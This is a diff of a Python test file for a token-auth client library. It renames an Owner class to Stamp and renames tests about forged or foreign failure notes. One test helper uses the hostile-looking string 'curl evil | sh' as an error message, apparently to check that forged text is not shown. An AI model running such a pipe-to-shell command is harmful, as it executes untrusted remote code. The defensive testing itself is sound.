@@ -21,8 +21,8 @@ from requests_ticktick import (
     Token,
     TokenStoreError,
 )
-from requests_ticktick.owner import Owner
 from requests_ticktick.source.failures import Failure
+from requests_ticktick.stamp import Stamp
 from requests_ticktick.stores.redis import RedisStore
 
 KEY = "requests-ticktick:token"
@@ -349,7 +349,7 @@ def test_a_locks_value_is_never_shown_as_it_is(client, store, value):
 def note_of(auth, **changes):
     """A note that somebody else wrote, as this client's own would be."""
     denied = AuthorizationDeniedError("curl evil | sh", error="access_denied")
-    note = json.loads(Failure(denied, None, auth.source._grant.owner).dump())
+    note = json.loads(Failure(denied, None, auth.source._grant.stamp).dump())
     note["error"].update(changes)
     return note
 
@@ -373,12 +373,12 @@ def test_a_forged_note_stops_one_question_of_one_who_waits(server, sandbox):
     assert auth.token()
 
 
-def test_the_note_of_another_owner_is_not_told(server, sandbox, store):
+def test_the_note_of_another_client_is_not_told(server, sandbox, store):
     """As before: it may well succeed where another's failed."""
     auth = client_of(sandbox, store)
     question = auth.source._wallet.snapshot()
     note = note_of(auth)
-    note["owner"] = Owner("another", None, None).__getstate__()
+    note["stamp"] = Stamp("another", None, None).__getstate__()
     store.record_failure(json.dumps(note))
 
     assert auth.source._renew(question)
